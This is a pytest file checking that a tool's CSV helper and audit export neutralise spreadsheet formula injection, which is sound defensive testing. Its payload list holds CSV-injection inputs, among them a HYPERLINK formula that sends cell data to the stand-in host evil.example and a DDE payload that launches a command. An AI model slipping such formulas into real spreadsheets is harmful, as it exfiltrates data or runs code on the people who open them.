"""CSV formula neutralisation (OWASP CSV injection), in the one helper and in every CSV gatekeeper writes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from gatekeeper.audit import decision_record, event_record
from gatekeeper.audit.review import AuditReader, Filters
from gatekeeper.cli.audit import app
from gatekeeper.csvsafe import FORMULA_START, neutralise, write_csv
from tests.audit.conftest import make_decision, open_log

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_formula_cell_gets_a_leading_quote(value: str) -> None:
    assert value.startswith(FORMULA_START)
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Lion City AI Pte. Ltd.", "", "a=b", " =1", "'=already quoted", "1-2"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, None, True])
def test_values_that_are_not_text_are_left_alone(value: object) -> None:
    assert neutralise(value) is value


def test_write_csv_neutralises_every_cell_and_round_trips_the_rest() -> None:
    f = io.StringIO()
    n = write_csv(f, ["name", "note", "qty"], [[p, 'say "hi", ok', -4] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(f.getvalue())))
    assert n == len(PAYLOADS) and rows[0] == ["name", "note", "qty"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in rows[1:]} == {'say "hi", ok'} and {r[2] for r in rows[1:]} == {"-4"}


def test_audit_export_csv_neutralises_customer_fields(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Lion City")'
    with open_log(tmp_path) as log:
        log.append(decision_record(make_decision(decision_id="dec-evil", legal_name=evil)))
        log.append(event_record("case.opened", "@attacker", {"case_id": "case-1"}))
    out = tmp_path / "out.csv"
    with AuditReader(tmp_path / "audit") as r:
        assert r.export(Filters(kind="all"), "csv", out) == 3
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    [dec] = [row for row in rows if row["kind"] == "decision"]
    assert dec["legal_name"] == "'" + evil and dec["decision_id"] == "dec-evil"
    [ev] = [row for row in rows if row["kind"] == "case.opened"]
    assert ev["actor"] == "'@attacker"
    assert not any(cell.startswith(FORMULA_START) for row in rows for cell in row.values() if cell)
    # The same through the CLI.
    result = CliRunner().invoke(app, ["export", "--from", str(tmp_path / "audit"), "--format", "csv",
                                      "--output", str(tmp_path / "cli.csv"), "--kind", "all"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "cli.csv").read_text(encoding="utf-8") == out.read_text(encoding="utf-8")


def test_nothing_else_in_gatekeeper_writes_csv() -> None:
    """# INVARIANT of gatekeeper.csvsafe: every CSV writer goes through it."""
    root = Path(__file__).resolve().parent.parent / "gatekeeper"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|FORMAT\s+csv|\.to_csv\(|write_csv\(")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "csvsafe.py" and writers.search(p.read_text(encoding="utf-8"))
                 and "gatekeeper.csvsafe" not in p.read_text(encoding="utf-8")]
    assert offenders == []
